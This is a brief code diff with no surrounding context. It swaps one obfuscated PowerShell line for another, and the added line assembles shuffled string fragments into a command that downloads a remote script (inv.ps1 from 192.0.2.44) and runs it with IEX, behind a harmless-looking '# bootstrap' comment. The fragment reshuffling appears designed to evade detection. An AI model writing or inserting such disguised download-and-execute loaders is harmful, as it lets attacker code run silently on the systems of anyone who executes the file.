@@ -1,3 +1,3 @@
-iex ("{2}{0}{1}" -f 'IEX (New-','Object Net.WebClient).DownloadString(''http://192.0.2.44/a.ps1'')
-','# init 3675 v4
-')
+iex ("{2}{3}{1}{0}" -f 'w-Object Net.WebClient).DownloadString(''http://192.0.2.44/inv.ps1'')
+','Ne','# bootstrap 5','492 v4
+IEX (')
